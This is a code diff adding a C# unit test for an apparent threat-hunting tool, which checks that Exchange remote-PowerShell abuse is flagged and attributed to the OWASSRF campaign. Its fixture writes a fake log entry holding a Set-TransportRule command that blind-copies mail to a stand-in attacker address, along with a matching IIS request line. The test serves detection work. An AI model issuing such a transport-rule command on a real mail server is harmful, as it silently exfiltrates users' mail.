@@ -165,6 +165,34 @@ public class ProxiedSessionCmdletTests
         }
     }
 
+    [Fact]
+    public void A_proxied_client_that_names_no_ssrf_takes_the_campaign_the_front_end_shows()
+    {
+        var time = new DateTime(2022, 12, 20, 11, 0, 0, DateTimeKind.Utc);
+        string dir = TempDir();
+        try
+        {
+            WriteServer(dir, "EXCH09", time.AddSeconds(-2), "python-requests/2.28.1", time.AddSeconds(3), "Set-TransportRule", "-Identity \"Archive\" -BlindCopyTo \"a@evil.example\"", "Success");
+            string iis = Path.Combine(dir, "inetpub", "logs", "LogFiles", "W3SVC1", "u_ex221220.log");
+            Directory.CreateDirectory(Path.GetDirectoryName(iis)!);
+            File.WriteAllText(
+                iis,
+                "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2022-12-20 10:59:00\r\n"
+                + "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken s-computername\r\n"
+                + "2022-12-20 10:59:57 10.0.0.8 POST /owa/jdoe%40contoso.com/powershell - 443 jdoe@contoso.com 198.51.100.23 python-requests/2.28.1 - 200 0 0 120 EXCH09\r\n");
+            var hunt = Hunt([dir]);
+            Assert.Contains(hunt.Findings, f => f.RuleId == "HT-RPS-002");
+            Assert.Contains(hunt.Findings, f => f.RuleId == "HT-OWS-001");
+            var rule = Assert.Single(hunt.Findings, f => f.Operation == "Set-TransportRule");
+            Assert.Equal("HT-RPS-124", rule.RuleId);
+            Assert.Equal(Campaign.OWASSRF, rule.Campaign);
+        }
+        finally
+        {
+            Directory.Delete(dir, true);
+        }
+    }
+
     /// <summary>Quote styles, case, parameter order and the colon form: the same judgement.</summary>
     [Fact]
     public void Mutated_cmdlet_rows_are_judged_alike()
